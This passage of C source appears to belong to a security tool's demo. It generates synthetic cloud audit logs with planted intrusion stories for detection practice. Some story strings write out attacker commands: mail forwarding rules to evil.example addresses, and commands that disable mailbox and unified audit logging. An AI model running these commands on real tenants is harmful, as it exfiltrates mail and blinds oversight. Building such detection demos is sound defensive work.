		{5, S_ADMIN, 2, 2, "Global Administrator granted"},
		{6, S_ADMIN, 3, 3, "admin consent to an app"},
		{7, S_DOWNLOAD, 1, DOWNLOADS, "mass download"},
		{8, S_ADMIN, 0, 1, "impossible travel"},
	};
	const char *v = g->t.users[g->victim].upn;
	unsigned i, k;

	res->nstories = 0;
	for (i = 0; i < SS_ARRAY_LEN(map); i++) {
		struct ss_demo_story *s = &res->stories[res->nstories++];
		const char *ip = map[i].story == S_SPRAY   ? SPRAY_IP
				 : map[i].story == S_BRUTE ? BRUTE_IP
							   : FAR_IP;
		unsigned who = map[i].story == S_BRUTE	 ? g->victim
			       : map[i].story == S_ADMIN ? g->admin
							 : g->mover;
		memset(s, 0, sizeof(*s));
		s->number = map[i].number;
		s->title = map[i].title;
		for (k = 0; k < g->nsteps; k++) {
			const struct step *st = &g->steps[k];
			ss_time_ms t = (g->first_day + st->day) * SS_DAY_MS + (ss_time_ms)st->sec * 1000;
			if (st->story != map[i].story || st->n < map[i].first || st->n > map[i].last)
				continue;
			if (!s->start || t < s->start)
				s->start = t;
			if (t > s->end)
				s->end = t;
		}
		if (map[i].story == S_SPRAY)
			who = spray_target(g, 0);
		snprintf(s->user, sizeof(s->user), "%s", g->t.users[who].upn);
		switch (map[i].number) {
		case 1:
			snprintf(s->ip, sizeof(s->ip), "%s", ip);
			snprintf(s->detail, sizeof(s->detail),
				 "%u failed sign-ins from one IP in 92 s: %u accounts with 50126, %u unknown "
				 "names",
				 SPRAY_TARGETS + SPRAY_GUESSES, spray_real(g),
				 SPRAY_TARGETS + SPRAY_GUESSES - spray_real(g));
			break;
		case 2:
			snprintf(s->ip, sizeof(s->ip), "%s", ip);
			snprintf(s->detail, sizeof(s->detail),
				 "25 failed sign-ins (50126) in 264 s, then a success from the same IP");
			break;
		case 3:
			snprintf(s->ip, sizeof(s->ip), "%s", ip);
			snprintf(s->detail, sizeof(s->detail),
				 "New-InboxRule ForwardTo attacker@evil.example, rules to RSS Feeds and "
				 "deleting; "
				 "Set-Mailbox ForwardingSmtpAddress smtp:exfil@evil.example");
			break;
		case 4:
			snprintf(s->ip, sizeof(s->ip), "%s", ip);
			snprintf(s->detail, sizeof(s->detail),
				 "Set-Mailbox %.60s AuditEnabled False; Set-AdminAuditLogConfig "
				 "UnifiedAuditLogIngestionEnabled False",
				 v);
			break;
		case 5:
			snprintf(s->ip, sizeof(s->ip), "%s", ip);
			snprintf(s->detail, sizeof(s->detail),
				 "Add member to role. Global Administrator for %.100s", v);
			break;
		case 6:
			snprintf(s->ip, sizeof(s->ip), "%s", ip);
			snprintf(
				s->detail, sizeof(s->detail),
				"Consent to application. \"MailSync Pro\": admin consent for all principals");
			break;
		case 7: {
			struct ev e;
			e.key = 0;
			ev_addr4(&e, g->au[g->mover].home4);
			snprintf(s->ip, sizeof(s->ip), "%.*s", (int)e.addr_len, e.addr);
			snprintf(s->detail, sizeof(s->detail), "%u FileDownloaded in 19 minutes", DOWNLOADS);
			break;
		}
		default: {
			struct ev e;
			e.key = 0;
			ev_addr4(&e, g->au[g->admin].home4);
			snprintf(s->ip, sizeof(s->ip), "%s", FAR_IP);
			snprintf(s->detail, sizeof(s->detail),
				 "sign-in from home (%s, %.*s), then from Russia (%s) 17 minutes later",
				 countries[g->au[g->admin].country].code, (int)e.addr_len, e.addr, FAR_IP);
			break;
		}
		}
	}
}

/* ---- writing the files ---- */

static int write_all(struct gen *g, const char *p, size_t n)
{
	while (n) {
		ssize_t w = write(g->fd, p, n);
		if (w < 0 && errno == EINTR)
			continue;
		if (w <= 0) {
			ss_error_set(g->err, SS_EIO, "write failed: %s", strerror(errno));
			ss_error_at(g->err, g->path.ptr, 0, 0);
			return SS_EIO;
		}
		p += w;
		n -= (size_t)w;
		g->res->bytes += (uint64_t)w;
	}
	return 0;
}

/* Writes the buffer, then the duplicates waiting for this file. */
static int out_flush(struct gen *g)
{
	int rc = write_all(g, g->buf, (size_t)(g->p - g->buf));

	g->p = g->buf;
	if (!rc && g->pending.len)
		rc = write_all(g, g->pending.ptr, g->pending.len);
	ss_buf_clear(&g->pending);
	return rc;
}

static int out_open(struct gen *g, const char *dir)
{
	char date[32];

	ss_time_format_date(g->day_ms, date);
	memcpy(g->date, date, 10);
	ss_buf_clear(&g->path);
	ss_buf_clear(&g->tmp);
	if (ss_buf_printf(&g->path, "%s/audit/audit-%s.json", dir, date) ||
	    ss_buf_printf(&g->tmp, "%s.tmp.%ld", g->path.ptr, (long)getpid()))
		return ss_error_set(g->err, SS_ETOOBIG, "path too long");
	g->fd = open(g->tmp.ptr, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (g->fd < 0) {
		ss_error_set(g->err, SS_EIO, "cannot create: %s", strerror(errno));
		ss_error_at(g->err, g->tmp.ptr, 0, 0);
		return SS_EIO;
	}
	g->p = g->buf;
	return 0;
}

static int out_close(struct gen *g, int rc)
{
	if (g->fd < 0)
		return rc;
	if (!rc)
		rc = out_flush(g);
	if (close(g->fd) != 0 && !rc) {
		ss_error_set(g->err, SS_EIO, "write failed: %s", strerror(errno));
		ss_error_at(g->err, g->path.ptr, 0, 0);
		rc = SS_EIO;
	}
	g->fd = -1;
	if (!rc && rename(g->tmp.ptr, g->path.ptr) != 0) {
		ss_error_set(g->err, SS_EIO, "cannot rename into place: %s", strerror(errno));
		ss_error_at(g->err, g->path.ptr, 0, 0);
		rc = SS_EIO;
	}
	if (rc)
		unlink(g->tmp.ptr);
	else
		g->res->files++;
	return rc;
}

/* Orders keys by their second (the top bits), keeping the order of equal ones. */
static void sort_keys(struct gen *g, size_t n)
{
	size_t i;
	unsigned s;

	memset(g->counts, 0, 86401 * sizeof(*g->counts));
	for (i = 0; i < n; i++)
		g->counts[((g->keys[i] >> 40) & 0x1FFFF) + 1]++;
	for (s = 1; s <= 86400; s++)
		g->counts[s] += g->counts[s - 1];
	for (i = 0; i < n; i++)
		g->sorted[g->counts[(g->keys[i] >> 40) & 0x1FFFF]++] = g->keys[i];
}

static int emit_batch(struct gen *g, size_t n)
{
	size_t i;
	int rc = 0;

	sort_keys(g, n);
	for (i = 0; i < n && !rc; i++) {
		uint64_t key = g->sorted[i];
		unsigned sec = (unsigned)(key >> 40) & 0x1FFFF, slot = (unsigned)(key >> 16) & 0xFFFFFF;
		unsigned no = (unsigned)key & 0xFFFF;
		char *start = g->p, *p;
		uint64_t h;

		if (slot == g->n) {
			p = emit_story(g->p, g, &g->steps[no]);
			*p++ = '\n';
			g->p = p;
			g->res->records++;
		} else {
			p = emit_background(g->p, g, sec, slot, no, key >> 63);
			*p++ = '\n';
			g->p = p;
			g->res->records++;
			h = hkey(g->root ^ 0xD0B1E5ull, (uint64_t)abs_day(g) << 32 | slot, no);
			if (h % 100000 < DUP_PER_100K) {
				struct ss_buf *to = (h >> 40) % 3 == 0 ? &g->carry : &g->pending;
				if (ss_buf_add(to, start, (size_t)(p - start)) == 0) {
					g->res->records++;
					g->res->duplicates++;
				}
			}
		}
		if ((size_t)(g->p - g->buf) > OUT_FLUSH + OUT_SLACK)
			SS_BUG("an audit record overran the output buffer's slack");
		if ((size_t)(g->p - g->buf) >= OUT_FLUSH)
			rc = out_flush(g);
	}
	return rc;
}

static unsigned day_weight(const struct gen *g, unsigned u)
{
	unsigned w = g->au[u].weight;
	return w ? w * (70 + (unsigned)(hkey(g->root ^ 0x3E1647ull, (uint64_t)abs_day(g), u) % 61)) : 0;
}

static int write_day(struct gen *g, const char *dir)
{
	const struct ss_demo_audit_opts *o = g->o;
	int64_t d = abs_day(g);
	unsigned wd = (unsigned)(((d + 4) % 7 + 7) % 7), u, j, k;
	uint64_t total = (uint64_t)g->n * o->events_per_user_day * (wd == 0 || wd == 6 ? 5 : 12) / 10;
	uint64_t wsum = 0, cum = 0, prev = 0;
	size_t nkeys = 0;
	int rc;

	g->day_ms = d * SS_DAY_MS;
	rc = out_open(g, dir);
	if (rc)
		return rc;
	if (g->carry.len) {
		rc = write_all(g, g->carry.ptr, g->carry.len);
		ss_buf_clear(&g->carry);
	}
	for (k = 0; k < g->nsteps && !rc; k++)
		if (g->steps[k].day == g->day)
			g->keys[nkeys++] = (uint64_t)g->steps[k].sec << 40 | (uint64_t)g->n << 16 | k;
	for (u = 0; u < g->n; u++)
		wsum += day_weight(g, u);
	for (u = 0; u < g->n && !rc && wsum; u++) {
		const struct au_user *a = &g->au[u];
		unsigned w = day_weight(g, u), c, start, span, slot;
		struct rng r;
		if (!w)
			continue;
		cum += w;
		c = (unsigned)((uint64_t)((unsigned __int128)total * cum / wsum) - prev);
		prev += c;
		if (c > MAX_PER_DAY)
			c = MAX_PER_DAY;
		if (!c)
			continue;
		if (nkeys + c > BATCH_MAX) {
			rc = emit_batch(g, nkeys);
			nkeys = 0;
		}
		r.s = hkey(g->root ^ 0x71AE5ull, (uint64_t)d << 32 | u, 0);
		start = HMS(7, 0, 0) + rbelow(&r, 150 * 60);
		span = HMS(8, 0, 0) + rbelow(&r, 2 * 3600);
		slot = span / c;
		for (j = 0; j < c; j++) {
			unsigned sec;
			if (j && rbelow(&r, 100) < 4) {
				sec = rbelow(&r, 86400); /* off hours: phones syncing, late work */
			} else {
				int local = (int)(start + (unsigned)((uint64_t)span * j / c) +
						  (j && slot ? rbelow(&r, slot) : 0));
				sec = (unsigned)(((local - countries[a->country].tz_min * 60) % 86400 +
						  86400) %
						 86400);
			}
			/* A day of 4 records or more starts with a sign-in (bit 63). */
			g->keys[nkeys++] = (uint64_t)(j == 0 && c >= 4) << 63 | (uint64_t)sec << 40 |
					   (uint64_t)u << 16 | j;
		}
	}
	if (!rc)
		rc = emit_batch(g, nkeys);
	/* Duplicates meant for a next day that is not written land at the end of the last file. */
	if (!rc && g->day + 1 == o->days && g->carry.len) {
		rc = out_flush(g);
		if (!rc)
			rc = write_all(g, g->carry.ptr, g->carry.len);
		ss_buf_clear(&g->carry);
	}
	return out_close(g, rc);
}

/* Removes day files of an earlier run that fall outside [first, last]. */
static void remove_stale(const char *adir, const char *first, const char *last)
{
	DIR *dp = opendir(adir);
	struct dirent *de;
	struct ss_buf path;

	if (!dp)
		return;
	ss_buf_init(&path, 8192);
	while ((de = readdir(dp)) != NULL) {
		const char *s = de->d_name;
		size_t i;
		bool ok = strlen(s) == 21 && memcmp(s, "audit-", 6) == 0 && memcmp(s + 16, ".json", 5) == 0;
		for (i = 6; ok && i < 16; i++)
			ok = (i == 10 || i == 13) ? s[i] == '-' : (s[i] >= '0' && s[i] <= '9');
		if (!ok || (memcmp(s + 6, first, 10) >= 0 && memcmp(s + 6, last, 10) <= 0))
			continue;
		ss_buf_clear(&path);
		if (ss_buf_printf(&path, "%s/%s", adir, s) == 0)
			unlink(path.ptr);
	}
	closedir(dp);
	ss_buf_release(&path);
}

int ss_demo_audit_generate(const char *dir, const struct ss_demo_audit_opts *o,
			   struct ss_demo_audit_result *res, struct ss_error *err)
{
	struct ss_demo_audit_result local;
	struct gen g;
	struct ss_buf adir;
	char first[32], last[32];
	uint64_t cap;
	int rc;

	if (!res)
		res = &local;
	memset(res, 0, sizeof(*res));
	ss_buf_init(&adir, 8192);
	rc = gen_init(&g, o, err);
	if (rc)
		goto out;
	g.res = res;
	cap = (uint64_t)g.n * o->events_per_user_day * 12 / 10 + g.nsteps + 16;
	if (cap > BATCH_MAX)
		cap = BATCH_MAX;
	g.keys = ss_xmalloc((size_t)cap * sizeof(*g.keys));
	g.sorted = ss_xmalloc((size_t)cap * sizeof(*g.sorted));
	g.counts = ss_xmalloc(86401 * sizeof(*g.counts));
	g.buf = ss_xmalloc(OUT_FLUSH + OUT_SLACK);
	g.p = g.buf;
	if (ss_buf_printf(&adir, "%s/audit", dir)) {
		rc = ss_error_set(err, SS_ETOOBIG, "path too long");
		goto out;
	}
	rc = ss_mkdir_p(adir.ptr, false, err);
	for (g.day = 0; g.day < o->days && !rc; g.day++)
		rc = write_day(&g, dir);
	if (rc)
		goto out;
	ss_time_format_date(g.first_day * SS_DAY_MS, first);
	ss_time_format_date((g.first_day + o->days - 1) * SS_DAY_MS, last);
	remove_stale(adir.ptr, first, last);
	if (o->stories)
		fill_stories(&g, res);
out:
	gen_release(&g);
	ss_buf_release(&adir);
	return rc;
}

int ss_demo_write_audit(const char *dir, const struct ss_demo_audit_opts *o, struct ss_error *err)
{
	return ss_demo_audit_generate(dir, o, NULL, err);
}

unsigned ss_demo_audit_stories(const struct ss_demo_audit_opts *o, struct ss_demo_story out[SS_DEMO_STORIES])
{
	struct ss_demo_audit_opts so = *o;
	struct ss_demo_audit_result res;
	struct gen g;

	so.stories = true;
	memset(&res, 0, sizeof(res));
	if (gen_init(&g, &so, NULL) == 0)
		fill_stories(&g, &res);
	gen_release(&g);
	memcpy(out, res.stories, sizeof(res.stories));
	return res.nstories;
}

size_t ss_demo_audit_networks(struct ss_demo_net *out, size_t max)
{
	size_t i, n = 0;

	for (i = 0; i < SS_ARRAY_LEN(countries); i++) {
		const struct country *c = &countries[i];
		if (n < max) {
			memset(&out[n], 0, sizeof(out[n]));
			out[n].addr[12] = (unsigned char)(c->home >> 24);
			out[n].addr[13] = (unsigned char)(c->home >> 16);
			out[n].addr[14] = (unsigned char)(c->home >> 8);
			out[n].addr[15] = (unsigned char)c->home;
			out[n].prefix = 96 + 32 - c->home_bits;
			memcpy(out[n].cc, c->code, 3);
		}
		n++;
		if (c->v6[0] == 0x2001 && c->v6[1] == 0xdb8)
			continue; /* documentation prefixes: no database places them */
		if (n < max) {
			int k;
			memset(&out[n], 0, sizeof(out[n]));
			for (k = 0; k < 3; k++) {
				out[n].addr[2 * k] = (unsigned char)(c->v6[k] >> 8);
				out[n].addr[2 * k + 1] = (unsigned char)c->v6[k];
			}
			out[n].prefix = 48;
			memcpy(out[n].cc, c->code, 3);
		}
		n++;
	}
	if (n < max) {
		memset(&out[n], 0, sizeof(out[n]));
		out[n].addr[12] = 95;
		out[n].addr[13] = 24;
		out[n].addr[14] = 117;
		out[n].addr[15] = 0;
		out[n].prefix = 96 + 24;
		memcpy(out[n].cc, "RU", 3);
	}
	n++;
	return n;
}
